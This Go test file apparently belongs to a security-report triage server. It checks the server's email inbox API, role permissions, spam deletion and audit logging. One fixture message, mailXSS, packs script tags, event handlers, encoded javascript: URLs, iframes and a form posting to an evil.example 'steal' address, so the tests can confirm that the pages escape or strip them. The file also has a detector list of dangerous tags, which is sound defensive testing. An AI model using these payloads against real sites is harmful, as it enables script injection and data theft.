package server_test

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/wardsec/ward"
	"github.com/wardsec/ward/server"
)

const mailType = "message/rfc822"

// mailMessage writes a plain message; extra are more header lines.
func mailMessage(id, from, subject, body string, extra ...string) string {
	h := fmt.Sprintf("From: %s\r\nTo: security@example.org\r\nSubject: %s\r\nMessage-ID: <%s>\r\nDate: Mon, 2 Mar 2026 08:00:00 +0000\r\n", from, subject, id)
	for _, e := range extra {
		h += e + "\r\n"
	}
	return h + "\r\n" + body + "\r\n"
}

// received is the answer of POST /api/v1/inbox/messages.
type received struct {
	Thread  ward.Thread  `json:"thread"`
	Message ward.Message `json:"message"`
}

// mail sends a raw message to the inbox as a triager through the API.
func (f *fixture) mail(raw string) received {
	f.t.Helper()
	resp, body := f.do("POST", "/api/v1/inbox/messages", f.tokens[ward.RoleTriager], mailType, raw)
	if resp.StatusCode != http.StatusCreated {
		f.t.Fatalf("receive: %d %s", resp.StatusCode, body)
	}
	return decodeJSON[received](f.t, body)
}

// threadAct takes an action on a thread through the API and answers the
// thread after it.
func (f *fixture) threadAct(id int64, token, action string, status int) ward.Thread {
	f.t.Helper()
	resp, body := f.do("POST", "/api/v1/inbox/"+itoa(id)+"/actions", token, jsonType, action)
	if resp.StatusCode != status {
		f.t.Fatalf("%s: %d %s, want %d", action, resp.StatusCode, body, status)
	}
	if status != 200 {
		return ward.Thread{}
	}
	return decodeJSON[ward.Thread](f.t, body)
}

type threadList struct {
	Threads []ward.Thread `json:"threads"`
	Next    string        `json:"next"`
}

func subjects(ts []ward.Thread) []string {
	var out []string
	for _, t := range ts {
		out = append(out, t.Subject)
	}
	return out
}

func TestInboxAPI(t *testing.T) {
	f := newFixture(t)
	admin, triager, viewer := f.tokens[ward.RoleAdmin], f.tokens[ward.RoleTriager], f.tokens[ward.RoleViewer]

	first := mailMessage("one@example.net", "Rae <rae@example.net>", "Webhook bypass", "Steps: POST /hook without a signature.")
	one := f.mail(first)
	two := f.mail(mailMessage("two@example.net", "Sam <sam@example.net>", "Open redirect", "See https://example.org/r?u=evil"))
	three := f.mail(mailMessage("three@example.net", "Kim <kim@example.net>", "Question about the programme", "Is staging in scope?"))

	t.Run("the same message again is stored once", func(t *testing.T) {
		resp, body := f.do("POST", "/api/v1/inbox/messages", triager, mailType, first)
		again := decodeJSON[received](t, body)
		if resp.StatusCode != 200 || again.Thread.ID != one.Thread.ID || again.Message.ID != one.Message.ID ||
			resp.Header.Get("Location") != "/api/v1/inbox/"+itoa(one.Thread.ID) {
			t.Errorf("again: %d %s", resp.StatusCode, body)
		}
	})
	t.Run("list, newest first, paged", func(t *testing.T) {
		resp, body := f.do("GET", "/api/v1/inbox?limit=2", viewer, "", "")
		page := decodeJSON[threadList](t, body)
		if resp.StatusCode != 200 || !slices.Equal(subjects(page.Threads), []string{"Question about the programme", "Open redirect"}) ||
			page.Next != "/api/v1/inbox?before="+itoa(two.Thread.ID)+"&limit=2" {
			t.Fatalf("first page: %d %s", resp.StatusCode, body)
		}
		_, body = f.do("GET", page.Next, viewer, "", "")
		page = decodeJSON[threadList](t, body)
		if !slices.Equal(subjects(page.Threads), []string{"Webhook bypass"}) || page.Next != "" {
			t.Errorf("second page: %s", body)
		}
	})
	t.Run("filters: status and assignee=me", func(t *testing.T) {
		th := f.threadAct(two.Thread.ID, triager, `{"action":"mark","status":"actionable"}`, 200)
		if th.Status != ward.ThreadActionable || th.Assignee != "triager@example.org" {
			t.Fatalf("marked: %+v", th)
		}
		f.threadAct(three.Thread.ID, triager, `{"action":"mark","status":"unactionable"}`, 200)
		_, body := f.do("GET", "/api/v1/inbox?status=actionable&assignee=me", triager, "", "")
		if got := subjects(decodeJSON[threadList](t, body).Threads); !slices.Equal(got, []string{"Open redirect"}) {
			t.Errorf("mine: %s", body)
		}
		_, body = f.do("GET", "/api/v1/inbox?assignee=me", viewer, "", "")
		if got := decodeJSON[threadList](t, body).Threads; len(got) != 0 {
			t.Errorf("the viewer's: %s", body)
		}
		_, body = f.do("GET", "/api/v1/inbox?status=open", viewer, "", "")
		if got := subjects(decodeJSON[threadList](t, body).Threads); !slices.Equal(got, []string{"Webhook bypass"}) {
			t.Errorf("open: %s", body)
		}
	})
	t.Run("the conversation and its exact bytes", func(t *testing.T) {
		resp, body := f.do("GET", "/api/v1/inbox/"+itoa(one.Thread.ID), viewer, "", "")
		conv := decodeJSON[struct {
			Thread   ward.Thread
			Messages []ward.Message
		}](t, body)
		if resp.StatusCode != 200 || conv.Thread.ID != one.Thread.ID || len(conv.Messages) != 1 ||
			conv.Messages[0].From.Addr != "rae@example.net" || !strings.Contains(conv.Messages[0].Text, "without a signature") {
			t.Fatalf("conversation: %d %s", resp.StatusCode, body)
		}
		path := "/api/v1/inbox/" + itoa(one.Thread.ID) + "/messages/" + itoa(one.Message.ID) + "/raw"
		resp, raw := f.do("GET", path, viewer, "", "")
		h := resp.Header
		if resp.StatusCode != 200 || h.Get("Content-Type") != "message/rfc822" || h.Get("X-Content-Type-Options") != "nosniff" ||
			h.Get("Content-Disposition") != `attachment; filename="message-`+itoa(one.Message.ID)+`.eml"` {
			t.Errorf("raw: %d %v", resp.StatusCode, h)
		}
		if !bytes.Equal(raw, []byte(first)) {
			t.Errorf("raw bytes = %q, want %q", raw, first)
		}
		// A message is found only through its own thread.
		if resp, _ := f.do("GET", "/api/v1/inbox/"+itoa(two.Thread.ID)+"/messages/"+itoa(one.Message.ID)+"/raw", viewer, "", ""); resp.StatusCode != 404 {
			t.Errorf("a message through another thread: %d, want 404", resp.StatusCode)
		}
	})
	t.Run("make a report: the thread is tracked and the report is from email", func(t *testing.T) {
		th := f.threadAct(one.Thread.ID, triager, `{"action":"report"}`, 200)
		if th.Report == 0 || !slices.Contains(th.Labels, ward.LabelTracked) || th.Status != ward.ThreadActionable || th.Assignee != "triager@example.org" {
			t.Fatalf("tracked thread: %+v", th)
		}
		resp, body := f.do("GET", "/api/v1/reports/"+itoa(th.Report), viewer, "", "")
		rep := decodeJSON[ward.Report](t, body)
		if resp.StatusCode != 200 || rep.Source != ward.SourceEmail || rep.Title != "Webhook bypass" || rep.ReporterEmail != "rae@example.net" ||
			rep.ReporterName != "Rae" || rep.ExternalURL != "https://ward.example.org/inbox/"+itoa(one.Thread.ID) {
			t.Errorf("report: %d %s", resp.StatusCode, body)
		}
		f.threadAct(one.Thread.ID, triager, `{"action":"report"}`, 409)

		// Another thread from the same reporter is likely the same.
		other := f.mail(mailMessage("four@example.net", "Rae <rae@example.net>", "Webhook signature", "Again: POST /hook without a signature."))
		_, body = f.do("GET", "/api/v1/inbox/"+itoa(other.Thread.ID)+"/similar", viewer, "", "")
		similar := decodeJSON[struct{ Similar []ward.SimilarReport }](t, body).Similar
		if len(similar) == 0 || similar[0].Report.ID != th.Report || !slices.Contains(similar[0].Reasons, "same reporter") {
			t.Errorf("similar: %s", body)
		}
	})
	t.Run("a reply is queued from the team address", func(t *testing.T) {
		th := f.threadAct(three.Thread.ID, triager, `{"action":"reply","text":"Staging is out of scope."}`, 200)
		if th.Messages != 2 {
			t.Errorf("after the reply: %+v", th)
		}
		_, body := f.do("GET", "/api/v1/inbox/"+itoa(three.Thread.ID), viewer, "", "")
		msgs := decodeJSON[struct{ Messages []ward.Message }](t, body).Messages
		if len(msgs) != 2 || msgs[1].Source != ward.MailSent || msgs[1].Sender != "triager@example.org" || msgs[1].Delivery != ward.DeliveryQueued {
			t.Errorf("the reply: %s", body)
		}
	})
	spam := f.mail(mailMessage("spam@spam.example", "Deals <deals@spam.example>", "Cheap watches", "buy"))
	f.threadAct(spam.Thread.ID, triager, `{"action":"spam"}`, 200)
	t.Run("spam is an admin's", func(t *testing.T) {
		_, body := f.do("GET", "/api/v1/inbox", triager, "", "")
		if slices.Contains(subjects(decodeJSON[threadList](t, body).Threads), "Cheap watches") {
			t.Errorf("a triager's list holds spam: %s", body)
		}
		_, body = f.do("GET", "/api/v1/inbox?status=spam", admin, "", "")
		if got := subjects(decodeJSON[threadList](t, body).Threads); !slices.Equal(got, []string{"Cheap watches"}) {
			t.Errorf("an admin's spam: %s", body)
		}
		if resp, body := f.do("POST", "/api/v1/inbox/messages", triager, mailType, mailMessage("spam@spam.example", "x@spam.example", "Cheap watches", "buy")); resp.StatusCode != 409 ||
			strings.Contains(string(body), "watches") {
			t.Errorf("a triager sends spam again: %d %s", resp.StatusCode, body)
		}
		if resp, _ := f.do("DELETE", "/api/v1/inbox/"+itoa(spam.Thread.ID), admin, "", ""); resp.StatusCode != 204 {
			t.Fatalf("delete: %d", resp.StatusCode)
		}
		if resp, _ := f.do("GET", "/api/v1/inbox/"+itoa(spam.Thread.ID), admin, "", ""); resp.StatusCode != 404 {
			t.Errorf("after delete: %d, want 404", resp.StatusCode)
		}
		_, body = f.do("GET", "/api/v1/audit?object=thread/"+itoa(spam.Thread.ID), admin, "", "")
		if !strings.Contains(string(body), `"action":"thread.delete"`) {
			t.Errorf("the audit log lacks the deletion: %s", body)
		}
	})

	spam2 := f.mail(mailMessage("spam2@spam.example", "Deals <deals@spam.example>", "More watches", "buy"))
	f.threadAct(spam2.Thread.ID, admin, `{"action":"spam"}`, 200)
	huge := io.LimitReader(repeatReader('a'), server.MaxMailBody+1)
	tests := []struct {
		name, method, path, token string
		contentType               string
		body                      io.Reader
		status                    int
		code                      string
	}{
		{"an unknown parameter", "GET", "/api/v1/inbox?state=open", viewer, "", nil, 422, ward.EINVALID},
		{"a parameter twice", "GET", "/api/v1/inbox?status=open&status=completed", viewer, "", nil, 422, ward.EINVALID},
		{"a bad status", "GET", "/api/v1/inbox?status=closed", viewer, "", nil, 422, ward.EINVALID},
		{"a bad limit", "GET", "/api/v1/inbox?limit=201", viewer, "", nil, 422, ward.EINVALID},
		{"spam listed by a triager", "GET", "/api/v1/inbox?status=spam", triager, "", nil, 403, ward.EFORBIDDEN},
		{"no token", "GET", "/api/v1/inbox", "", "", nil, 401, ward.EUNAUTHORIZED},
		{"a thread that is not a number", "GET", "/api/v1/inbox/abc", viewer, "", nil, 404, ward.ENOTFOUND},
		{"an unknown thread", "GET", "/api/v1/inbox/999", viewer, "", nil, 404, ward.ENOTFOUND},
		{"spam for a triager", "GET", "/api/v1/inbox/" + itoa(spam2.Thread.ID), triager, "", nil, 404, ward.ENOTFOUND},
		{"spam's bytes for a triager", "GET", "/api/v1/inbox/" + itoa(spam2.Thread.ID) + "/messages/" + itoa(spam2.Message.ID) + "/raw", triager, "", nil, 404, ward.ENOTFOUND},
		{"spam's duplicates for a triager", "GET", "/api/v1/inbox/" + itoa(spam2.Thread.ID) + "/similar", triager, "", nil, 404, ward.ENOTFOUND},
		{"acting on spam as a triager", "POST", "/api/v1/inbox/" + itoa(spam2.Thread.ID) + "/actions", triager, jsonType, strings.NewReader(`{"action":"mark","status":"open"}`), 404, ward.ENOTFOUND},
		{"a viewer acts", "POST", "/api/v1/inbox/" + itoa(two.Thread.ID) + "/actions", viewer, jsonType, strings.NewReader(`{"action":"mark","status":"completed"}`), 403, ward.EFORBIDDEN},
		{"an unknown action", "POST", "/api/v1/inbox/" + itoa(two.Thread.ID) + "/actions", triager, jsonType, strings.NewReader(`{"action":"archive"}`), 422, ward.EINVALID},
		{"an unknown field", "POST", "/api/v1/inbox/" + itoa(two.Thread.ID) + "/actions", triager, jsonType, strings.NewReader(`{"action":"mark","state":"open"}`), 400, ward.EMALFORMED},
		{"an old version", "POST", "/api/v1/inbox/" + itoa(two.Thread.ID) + "/actions", triager, jsonType, strings.NewReader(`{"action":"mark","status":"completed","version":1}`), 409, ward.ECONFLICT},
		{"marking spam with mark", "POST", "/api/v1/inbox/" + itoa(two.Thread.ID) + "/actions", triager, jsonType, strings.NewReader(`{"action":"mark","status":"spam"}`), 422, ward.EINVALID},
		{"assigning a viewer", "POST", "/api/v1/inbox/" + itoa(two.Thread.ID) + "/actions", triager, jsonType, strings.NewReader(`{"action":"assign","assignee":"viewer@example.org"}`), 422, ward.EINVALID},
		{"an empty reply", "POST", "/api/v1/inbox/" + itoa(two.Thread.ID) + "/actions", triager, jsonType, strings.NewReader(`{"action":"reply","text":"  "}`), 422, ward.EINVALID},
		{"a triager deletes", "DELETE", "/api/v1/inbox/" + itoa(spam2.Thread.ID), triager, "", nil, 403, ward.EFORBIDDEN},
		{"deleting what is not spam", "DELETE", "/api/v1/inbox/" + itoa(two.Thread.ID), admin, "", nil, 422, ward.EINVALID},
		{"a viewer sends mail", "POST", "/api/v1/inbox/messages", viewer, mailType, strings.NewReader(first), 403, ward.EFORBIDDEN},
		{"mail as JSON", "POST", "/api/v1/inbox/messages", triager, jsonType, strings.NewReader(first), 415, ward.EUNSUPPORTED},
		{"mail without a type", "POST", "/api/v1/inbox/messages", triager, "", strings.NewReader(first), 415, ward.EUNSUPPORTED},
		{"no mail", "POST", "/api/v1/inbox/messages", triager, mailType, nil, 422, ward.EINVALID},
		{"mail over 50 MiB", "POST", "/api/v1/inbox/messages", triager, mailType, huge, 413, ward.ETOOLARGE},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := f.auditCount()
			req, err := http.NewRequest(tt.method, f.srv.URL+tt.path, tt.body)
			if err != nil {
				t.Fatal(err)
			}
			if tt.token != "" {
				req.Header.Set("Authorization", "Bearer "+tt.token)
			}
			if tt.contentType != "" {
				req.Header.Set("Content-Type", tt.contentType)
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			e := decodeJSON[apiError](t, body)
			if resp.StatusCode != tt.status || e.Error.Code != tt.code || e.Error.Message == "" {
				t.Errorf("%d %s, want %d %s", resp.StatusCode, body, tt.status, tt.code)
			}
			if after := f.auditCount(); after != before {
				t.Errorf("audit entries went from %d to %d: the request wrote something", before, after)
			}
		})
	}
	if strings.Contains(f.logs.String(), "without a signature") {
		t.Error("the log holds a message's text")
	}
}

// repeatReader reads the byte c for ever.
type repeatReader byte

func (c repeatReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(c)
	}
	return len(p), nil
}

func TestInboxNotConfigured(t *testing.T) {
	f := newFixtureWith(t, func(c *server.Config) { c.Inbox = nil })
	resp, body := f.do("GET", "/api/v1/inbox", f.tokens[ward.RoleViewer], "", "")
	if e := decodeJSON[apiError](t, body); resp.StatusCode != 404 || !strings.Contains(e.Error.Message, "no inbox") {
		t.Errorf("API: %d %s", resp.StatusCode, body)
	}
	resp, html := f.page(ward.RoleViewer, "GET", "/inbox", nil)
	if resp.StatusCode != 404 || !strings.Contains(html, "no inbox configured") {
		t.Errorf("page: %d %s", resp.StatusCode, alertText(html))
	}
	if _, html := f.page(ward.RoleViewer, "GET", "/", nil); strings.Contains(html, `href="/inbox`) {
		t.Error("the dashboard links to an inbox that is not there")
	}
}

// mailXSS is a message whose every field a sender writes carries markup
// that would run script if it reached the page as markup: the headers,
// the text part, the HTML part and an attachment's name.
const mailXSS = "From: \"<img src=x onerror=alert('name')>\" <eve@example.net>\r\n" +
	"To: security@example.org\r\n" +
	"Subject: <script>alert('subject')</script> XSS-THREAD\r\n" +
	"Message-ID: <xss@example.net>\r\n" +
	"Date: Mon, 2 Mar 2026 08:00:00 +0000\r\n" +
	"MIME-Version: 1.0\r\n" +
	"Content-Type: multipart/mixed; boundary=\"outer\"\r\n" +
	"\r\n" +
	"--outer\r\n" +
	"Content-Type: multipart/alternative; boundary=\"inner\"\r\n" +
	"\r\n" +
	"--inner\r\n" +
	"Content-Type: text/plain; charset=utf-8\r\n" +
	"\r\n" +
	"TEXT-PART <script>alert('text')</script> <img src=x onerror=alert('text')>\r\n" +
	"<a href=\"javascript:alert('text')\">x</a> </pre><svg onload=alert('text')> </textarea><iframe src=javascript:alert(1)>\r\n" +
	"--inner\r\n" +
	"Content-Type: text/html; charset=utf-8\r\n" +
	"\r\n" +
	"<p>HTML-PART <b>bold</b> <a href=\"https://example.org/poc\">the proof</a></p>\r\n" +
	"<script>alert('html')</script><img src=\"https://tracker.example/pixel.gif\" onerror=\"alert('img')\">\r\n" +
	"<a href=\"javascript:alert('html')\">js</a><a href=\"JaVaScRiPt:alert(1)\">mixed</a><a href=\"&#106;avascript:alert(1)\">encoded</a>\r\n" +
	"<svg onload=alert('svg')><circle/></svg><iframe src=\"https://evil.example\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>\r\n" +
	"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\"><style>body{background:url(javascript:alert(1))}</style>\r\n" +
	"<form action=\"https://evil.example/steal\"><input name=\"p\"><button>go</button></form>\r\n" +
	"<div style=\"width:expression(alert(1))\" onclick=\"alert(1)\" id=\"reply\">styled</div><details open ontoggle=alert(1)>d</details>\r\n" +
	"<object data=\"x.swf\"></object><embed src=\"x.swf\"><base href=\"https://evil.example/\"><link rel=stylesheet href=\"https://evil.example/x.css\">\r\n" +
	"--inner--\r\n" +
	"--outer\r\n" +
	"Content-Type: application/pdf; name=\"\\\"><img src=x onerror=alert('file')>.pdf\"\r\n" +
	"Content-Disposition: attachment; filename=\"\\\"><img src=x onerror=alert('file')>.pdf\"\r\n" +
	"Content-Transfer-Encoding: base64\r\n" +
	"\r\n" +
	"JVBERi0xLjQK\r\n" +
	"--outer--\r\n"

// executable lists what in a page could run script or load from
// elsewhere, reading it as a browser's tokenizer does: script but ward's
// own desk.js, handler attributes, javascript: and data: URLs (entities
// decoded), frames, objects, forms posting elsewhere, images, styles and
// meta refreshes. Text, escaped, is not looked at: it cannot run.
func executable(page string) []string {
	var bad []string
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return bad
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		raw := string(z.Raw())
		tok := z.Token()
		attr := map[string]string{}
		for _, a := range tok.Attr {
			attr[a.Key] = a.Val
			v := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
			if strings.HasPrefix(a.Key, "on") || strings.Contains(v, "javascript:") || strings.HasPrefix(v, "data:") || a.Key == "style" || a.Key == "srcdoc" {
				bad = append(bad, raw)
			}
		}
		switch tok.Data {
		case "script":
			if attr["src"] != "/static/desk.js" {
				bad = append(bad, raw)
			}
		case "iframe", "frame", "object", "embed", "svg", "math", "img", "style", "base", "input", "button", "textarea", "select":
			if tok.Data == "input" || tok.Data == "button" || tok.Data == "textarea" || tok.Data == "select" {
				continue // ward's own forms; forms are checked by their action
			}
			bad = append(bad, raw)
		case "form":
			if !strings.HasPrefix(attr["action"], "/") || strings.HasPrefix(attr["action"], "//") {
				bad = append(bad, raw)
			}
		case "meta":
			if _, ok := attr["http-equiv"]; ok {
				bad = append(bad, raw)
			}
		case "link":
			if attr["href"] != "/static/ward.css" {
				bad = append(bad, raw)
			}
		}
	}
}

// TestThreadPageNoScript renders a thread whose every field holds markup,
// and holds the page to showing it as text: nothing in it may run, load
// from elsewhere or stand in for the page's own elements.
func TestThreadPageNoScript(t *testing.T) {
	f := newFixture(t)
	in := f.mail(mailXSS)
	if len(in.Message.Attachments) != 1 || !strings.Contains(in.Message.HTML, "HTML-PART") {
		t.Fatalf("the message was not read as meant: %+v", in.Message)
	}
	// Actionable and the triager's: on their dashboard too.
	f.threadAct(in.Thread.ID, f.tokens[ward.RoleTriager], `{"action":"mark","status":"actionable"}`, 200)
	for _, path := range []string{"/inbox/" + itoa(in.Thread.ID), "/inbox", "/"} {
		t.Run(path, func(t *testing.T) {
			resp, page := f.page(ward.RoleTriager, "GET", path, nil)
			if resp.StatusCode != 200 || !strings.Contains(page, "XSS-THREAD") {
				t.Fatalf("%d %s", resp.StatusCode, alertText(page))
			}
			for _, b := range executable(page) {
				t.Errorf("the page holds %s", b)
			}
			noMarkup(t, page)
			// Outside escaped text, none of the payloads' words are left.
			var tags strings.Builder
			z := html.NewTokenizer(strings.NewReader(page))
			for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
				if tt != html.TextToken {
					tags.Write(z.Raw())
				}
			}
			markup := strings.ToLower(tags.String())
			for _, word := range []string{"onerror=", "javascript:", "onload=", "ontoggle=", "<iframe", "<svg", "<img"} {
				if strings.Contains(markup, word) {
					t.Errorf("the page's markup holds %q", word)
				}
			}
			if n := strings.Count(markup, "<script"); n != 1 || !strings.Contains(markup, `<script src="/static/desk.js" defer>`) {
				t.Errorf("the page's markup holds %d scripts, want only desk.js", n)
			}
		})
	}
	_, page := f.page(ward.RoleTriager, "GET", "/inbox/"+itoa(in.Thread.ID), nil)
	for _, want := range []string{
		"&lt;script&gt;alert(&#39;subject&#39;)&lt;/script&gt; XSS-THREAD", // the subject, as text
		"TEXT-PART &lt;script&gt;alert(&#39;text&#39;)&lt;/script&gt;",     // the text part, as text
		`<pre class="mail-text">`,
		"HTML part (sanitised)",
		"<b>bold</b>", // harmless markup of the HTML part is kept
		`<a href="https://example.org/poc" rel="nofollow noreferrer noopener" target="_blank">the proof</a>`,
		"&#34;&gt;&lt;img src=x onerror=alert(&#39;file&#39;)&gt;.pdf", // the attachment's name, as text
		"application/pdf, 9 B",
		`href="/inbox/` + itoa(in.Thread.ID) + `/messages/` + itoa(in.Message.ID) + `/raw"`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %s", want)
		}
	}
	if strings.Count(page, `id="reply"`) != 1 {
		t.Error("the HTML part's id reached the page")
	}
	if strings.Contains(page, "tracker.example") {
		t.Error("the page loads the tracking pixel")
	}
}

// TestInboxPages works a thread through the desk: the list, the
// conversation, each action's form, a refusal shown on the page, and
// deleting spam for good after confirming.
func TestInboxPages(t *testing.T) {
	f := newFixture(t)
	triager, admin := f.tokens[ward.RoleTriager], f.tokens[ward.RoleAdmin]
	one := f.mail(mailMessage("one@example.net", "Rae <rae@example.net>", "Webhook bypass", "Steps."))
	broken := f.mail("From: ops@example.net\r\nSubject: Daily digest\r\nAuto-Submitted: auto-generated\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n")
	if !broken.Thread.Flagged || len(broken.Message.Problems) == 0 || broken.Message.Auto == "" {
		t.Fatalf("the broken digest was not read as meant: %+v", broken.Message)
	}
	threadPath := "/inbox/" + itoa(one.Thread.ID)
	act := func(role ward.Role, form url.Values) (*http.Response, string) {
		t.Helper()
		return f.page(role, "POST", threadPath+"/actions", form)
	}

	t.Run("the list and the navigation count", func(t *testing.T) {
		_, page := f.page(ward.RoleViewer, "GET", "/inbox?status=open", nil)
		if !strings.Contains(page, "Webhook bypass") || !strings.Contains(page, "Daily digest") || !strings.Contains(page, `<span class="count">2`) {
			t.Errorf("open threads: %s", page)
		}
		if !strings.Contains(page, `class="flag"`) {
			t.Error("the flagged thread is not marked")
		}
		resp, page := f.page(ward.RoleViewer, "GET", "/inbox?status=closed", nil)
		if resp.StatusCode != 422 || !strings.Contains(alertText(page), "status") {
			t.Errorf("a bad status: %d %s", resp.StatusCode, alertText(page))
		}
		resp, page = f.page(ward.RoleViewer, "GET", "/inbox?status=spam", nil)
		if resp.StatusCode != 403 || strings.Contains(page, `>spam</a>`) {
			t.Errorf("spam for a viewer: %d", resp.StatusCode)
		}
		if _, page := f.page(ward.RoleAdmin, "GET", "/inbox", nil); !strings.Contains(page, `href="/inbox?status=spam">spam</a>`) {
			t.Error("an admin has no spam tab")
		}
	})
	t.Run("a viewer reads but is offered no action and may take none", func(t *testing.T) {
		_, page := f.page(ward.RoleViewer, "GET", threadPath, nil)
		if !strings.Contains(page, "Steps.") || strings.Contains(page, `action="`+threadPath+`/actions"`) {
			t.Errorf("the viewer's page: %s", page)
		}
		resp, page := act(ward.RoleViewer, url.Values{"action": {"mark"}, "status": {"completed"}})
		if resp.StatusCode != 403 || !strings.Contains(alertText(page), "triager") {
			t.Errorf("a viewer acts: %d %s", resp.StatusCode, alertText(page))
		}
	})
	t.Run("flagged and machine mail are said so", func(t *testing.T) {
		_, page := f.page(ward.RoleViewer, "GET", "/inbox/"+itoa(broken.Thread.ID), nil)
		if !strings.Contains(page, "could not fully read") || !strings.Contains(page, "<li>"+broken.Message.Problems[0]+"</li>") {
			t.Error("the problems are not shown")
		}
		if !strings.Contains(page, "Machine mail") {
			t.Error("machine mail is not said so")
		}
	})
	t.Run("assign, mark, reply, make a report", func(t *testing.T) {
		resp, _ := act(ward.RoleTriager, url.Values{"action": {"assign"}, "assignee": {"responder@example.org"}, "version": {itoa(one.Thread.Version)}})
		if resp.StatusCode != 303 || resp.Header.Get("Location") != threadPath {
			t.Fatalf("assign: %d", resp.StatusCode)
		}
		resp, page := act(ward.RoleTriager, url.Values{"action": {"mark"}, "status": {"completed"}, "version": {itoa(one.Thread.Version)}})
		if resp.StatusCode != 409 || !strings.Contains(alertText(page), "changed") {
			t.Errorf("an action on an old version: %d %s", resp.StatusCode, alertText(page))
		}
		long := strings.Repeat("x", 64<<10+1)
		resp, page = act(ward.RoleTriager, url.Values{"action": {"reply"}, "text": {long}})
		if resp.StatusCode != 422 || !strings.Contains(alertText(page), "longer than") || !strings.Contains(page, ">"+long+"</textarea>") {
			t.Errorf("a refused reply is not kept: %d %s", resp.StatusCode, alertText(page))
		}
		resp, _ = act(ward.RoleTriager, url.Values{"action": {"reply"}, "text": {"Thanks, looking.\r\nThe team"}})
		if resp.StatusCode != 303 {
			t.Fatalf("reply: %d", resp.StatusCode)
		}
		_, page = f.page(ward.RoleViewer, "GET", threadPath, nil)
		if !strings.Contains(page, "Thanks, looking.\nThe team") || !strings.Contains(page, "triager@example.org, from the team address") ||
			!strings.Contains(page, `delivery-queued">queued`) {
			t.Errorf("the reply on the page: %s", page)
		}
		resp, _ = act(ward.RoleTriager, url.Values{"action": {"report"}})
		if resp.StatusCode != 303 {
			t.Fatalf("make a report: %d", resp.StatusCode)
		}
		_, body := f.do("GET", "/api/v1/inbox/"+itoa(one.Thread.ID), triager, "", "")
		report := decodeJSON[struct{ Thread ward.Thread }](t, body).Thread.Report
		_, page = f.page(ward.RoleTriager, "GET", threadPath, nil)
		if report == 0 || !strings.Contains(page, `<a href="/reports/`+itoa(report)+`">report #`+itoa(report)+`</a>`) || strings.Contains(page, `value="report"`) {
			t.Errorf("the tracked thread's page: report %d", report)
		}
		if _, page := f.page(ward.RoleTriager, "GET", "/inbox", nil); !strings.Contains(page, `href="/reports/`+itoa(report)+`">Tracked`) {
			t.Error("the list does not label the thread Tracked")
		}
	})
	t.Run("the dashboard shows my actionable threads", func(t *testing.T) {
		f.threadAct(broken.Thread.ID, triager, `{"action":"mark","status":"actionable"}`, 200)
		_, page := f.page(ward.RoleTriager, "GET", "/", nil)
		if !strings.Contains(page, "Daily digest") || !strings.Contains(page, "No open threads") {
			t.Errorf("the dashboard: %s", page)
		}
		if _, page := f.page(ward.RoleResponder, "GET", "/", nil); strings.Contains(page, "Daily digest") {
			t.Error("another's thread is on the responder's dashboard")
		}
	})
	t.Run("spam is deleted for good only when confirmed", func(t *testing.T) {
		spam := f.mail(mailMessage("spam@spam.example", "Deals <deals@spam.example>", "Cheap watches", "buy"))
		spamPath := "/inbox/" + itoa(spam.Thread.ID)
		resp, _ := f.page(ward.RoleTriager, "POST", spamPath+"/actions", url.Values{"action": {"spam"}})
		if resp.StatusCode != 303 || resp.Header.Get("Location") != "/inbox" {
			t.Fatalf("mark spam: %d %s", resp.StatusCode, resp.Header.Get("Location"))
		}
		if resp, _ := f.page(ward.RoleTriager, "GET", spamPath, nil); resp.StatusCode != 404 {
			t.Errorf("spam for a triager: %d", resp.StatusCode)
		}
		_, page := f.page(ward.RoleAdmin, "GET", spamPath, nil)
		if !strings.Contains(page, `action="`+spamPath+`/delete"`) || strings.Contains(page, "Mark spam") {
			t.Errorf("the admin's spam page: %s", page)
		}
		resp, page = f.page(ward.RoleAdmin, "POST", spamPath+"/delete", url.Values{})
		if resp.StatusCode != 422 || !strings.Contains(alertText(page), "tick the box") {
			t.Errorf("delete unconfirmed: %d %s", resp.StatusCode, alertText(page))
		}
		resp, _ = f.page(ward.RoleAdmin, "POST", spamPath+"/delete", url.Values{"confirm": {"yes"}})
		if resp.StatusCode != 303 || resp.Header.Get("Location") != "/inbox?status=spam" {
			t.Fatalf("delete: %d", resp.StatusCode)
		}
		if resp, _ := f.do("GET", "/api/v1/inbox/"+itoa(spam.Thread.ID), admin, "", ""); resp.StatusCode != 404 {
			t.Errorf("after delete: %d", resp.StatusCode)
		}
	})
}
